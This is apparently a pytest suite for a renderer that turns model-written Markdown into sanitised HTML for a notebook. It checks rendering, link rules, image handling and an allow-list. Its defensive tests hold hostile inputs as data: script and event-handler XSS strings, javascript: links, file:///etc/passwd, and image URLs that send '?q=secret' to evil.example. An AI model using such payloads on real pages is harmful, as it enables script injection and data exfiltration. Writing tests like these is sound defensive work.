"""Markdown to HTML that is safe in a live, trusted notebook, and good to read."""

import re
from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ofox_magic.render import plain_html, to_html
from ofox_magic.render.document import MAX_TEXT
from ofox_magic.render.links import MAX_IMAGE, is_small_image, may_link
from ofox_magic.render.sanitize import ATTRIBUTES, TAGS, sanitize

from .allowed import violations

AWAY = 'target="_blank" rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("# A *b*", "<h1>A <em>b</em></h1>"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
        ("- a\n  - b\n", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("3. a\n", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("```python\nx < 1\n```", '<pre class="ofox-code"><code>x &lt; <span class="ofox-m">1</span>\n</code></pre>'),
        ("~~a~~ `b`", "<p><s>a</s> <code>b</code></p>"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        (
            "|a|b|\n|-|-:|\n|1|2|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n"
            '<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align="right">2</td>\n</tr>\n'
            "</tbody>\n</table>",
        ),
        ("    a < b\n", '<pre class="ofox-code"><code>a &lt; b\n</code></pre>'),
    ],
)
def test_what_models_write_is_rendered(markdown, html):
    assert to_html(markdown).strip() == html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("[a](https://b.example/c)", f'<a href="https://b.example/c" {AWAY}>a</a><span class="ofox-host"> (b.example)</span>'),
        ("[a](mailto:b@c.example)", f'<a href="mailto:b@c.example" {AWAY}>a</a><span class="ofox-host"> (b@c.example)</span>'),
        ("<https://b.example/c>", f'<a href="https://b.example/c" {AWAY}>https://b.example/c</a>'),
        ("[at **b.exa**mple](https://b.example)", f'<a href="https://b.example" {AWAY}>at <strong>b.exa</strong>mple</a>'),
        ('[a](https://b.example "c")', f'<a href="https://b.example" title="c" {AWAY}>a</a><span class="ofox-host"> (b.example)</span>'),
        ("[a](data:image/png;base64,AAAA)", '<a rel="noopener noreferrer nofollow" target="_blank">a</a>'),
    ],
)  # fmt: skip
def test_behind_a_link_stands_where_it_leads_unless_its_words_say_so(markdown, html):
    assert to_html(markdown) == f"<p>{html}</p>\n"


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ('![a "b"](data:image/png;base64,AAAA)', '<img src="data:image/png;base64,AAAA" alt="a &quot;b&quot;">'),
        ("![](data:image/gif;base64,AA==)", '<img src="data:image/gif;base64,AA==" alt="image">'),
        ("![a]()", "<em>[image: a]</em>"),
        ("![](https://b.example/c)", f'<a href="https://b.example/c" {AWAY}>[image from b.example, not loaded: image]</a>'),
    ],
)  # fmt: skip
def test_a_picture_is_shown_where_the_text_holds_it_and_told_of_elsewhere(markdown, html):
    assert to_html(markdown) == f"<p>{html}</p>\n"


def test_a_picture_in_the_text_is_small():
    head = "data:image/webp;base64,"
    assert is_small_image(head + "A" * (MAX_IMAGE - len(head)))
    assert not is_small_image(head + "A" * (MAX_IMAGE - len(head) + 1))


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("- [ ] a\n- [x] b\n- [X] *c*", ["☐ a", "☑ b", "☑ <em>c</em>"]),
        ("1. [ ] *a*", ["☐ <em>a</em>"]),
        ("- [y] a\n- b [ ] c\n- `[x] d`\n- *[x] e*\n- [ ]", ["[y] a", "b [ ] c", "<code>[x] d</code>", "<em>[x] e</em>", "[ ]"]),
    ],
)  # fmt: skip
def test_tasks_are_signs_at_the_start_of_an_item(markdown, shown):
    assert re.findall("<li>(.*)</li>", to_html(markdown)) == shown
    assert to_html("[ ] a") == "<p>[ ] a</p>\n"


@pytest.mark.parametrize("align", ["left", "center", "right"])
def test_cells_keep_their_alignment(align):
    rule = {"left": ":-", "center": ":-:", "right": "-:"}[align]
    html = to_html(f"|a|b|\n|{rule}|-|\n|1|2|")
    assert re.findall("<t[hd].*?>.", html) == [f'<th align="{align}">a', "<th>b", f'<td align="{align}">1', "<td>2"]


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "<iframe srcdoc='x'></iframe>",
        "<form action=/login><input name=p></form>",
        '<a href="javascript:alert(1)" onclick="x">a</a>',
        "[a](javascript:alert(1))",
        "[a](vbscript:x) [b](data:text/html,x) [c](file:///etc/passwd) [d](//evil.example) [e](/api/kernels)",
        "[a](https://user:pass@evil.example)",
        "[a](https://evil.example/\\u202e)",
        "<https://user:pass@evil.example>",
        "<div id=x class=jp-Dialog style='position:fixed' data-commandlinker-command=x>a</div>",
        "![a](https://evil.example/?q=secret)",
        "![a](data:image/svg+xml;base64,AAAA)",
        "[a]: https://evil.example/?q=secret\n\n![a]",
        "```<script>\nx\n```",
        "<details open ontoggle=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_nothing_a_model_writes_gets_out_of_the_allow_list(markdown):
    assert violations(to_html(markdown)) == []


@given(st.text(max_size=200))
def test_no_text_at_all_gets_out_of_the_allow_list(markdown):
    assert violations(to_html(markdown)) == []


def test_a_remote_image_is_not_loaded_but_says_where_it_would_come_from():
    html = to_html("![chart](https://evil.example/p.png?q=secret)")
    assert "<img" not in html
    assert "[image from evil.example, not loaded: chart]" in html


def test_invisible_and_direction_characters_do_not_reach_the_page():
    assert to_html("a\u202eb\U000e0041c\x1b[0m") == "<p>abc[0m</p>\n"


@pytest.mark.parametrize(("opener", "deepest"), [("> ", 19), ("- ", 9)])
def test_what_is_nested_deeper_than_twenty_levels_is_shown_plain_and_whole(opener, deepest):
    assert to_html(opener * deepest + "a").count("<blockquote>" if opener == "> " else "<ul>") == deepest
    for depth in (deepest + 1, deepest + 2, 500):
        assert to_html(opener * depth + "a") == f'<pre class="ofox-plain">{escape(opener * depth)}a</pre>\n'


@pytest.mark.parametrize(
    "address", ["https://a.example", "http://a.example:80/b?c=d#e", "mailto:a@b.example", "https://한국.example/길"]
)
def test_common_links_are_kept(address):
    assert may_link(address)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "//a.example",
        "/files/x",
        "a.example",
        "https:a.example",
        "https:///a",
        "https://a\\b.example",
        "https://u@a.example",
        "https://a.example:x/",
        "vscode://x",
        "mailto:",
        "",
        "#x",
        "https://a.example/\u202e",
        "https://a.example/ b",
    ],
)
def test_other_addresses_are_not(address):
    assert not may_link(address)


def test_the_sanitiser_stands_alone():
    """Whatever came before it were broken: the last gate keeps the page safe by itself."""
    hostile = '<p onclick=x style=y id=z class=jp-Dialog data-a=b>a<script>b</script><img src=//c><a href="javascript:d">e</a>'
    assert violations(sanitize(hostile)) == []
    assert "e" in sanitize(hostile)


def test_the_allow_list_holds_nothing_that_acts():
    assert not TAGS & {
        "script",
        "style",
        "form",
        "input",
        "button",
        "iframe",
        "object",
        "svg",
        "math",
        "link",
        "meta",
    }
    assert {name for names in ATTRIBUTES.values() for name in names} == {
        "href",
        "title",
        "start",
        "align",
        "src",
        "alt",
    }


def test_a_text_beyond_the_cap_is_shown_plain_and_whole():
    assert to_html("*a*" + "b" * (MAX_TEXT - 3)) == f"<p><em>a</em>{'b' * (MAX_TEXT - 3)}</p>\n"
    assert to_html('"' + "b" * MAX_TEXT) == f'<pre class="ofox-plain">&quot;{"b" * MAX_TEXT}</pre>\n'
    assert to_html("") == plain_html("") == ""


def test_html_stays_text():
    assert to_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"
    assert to_html("<div>\n*x*\n</div>").startswith("<p>&lt;div&gt;\n<em>x</em>")
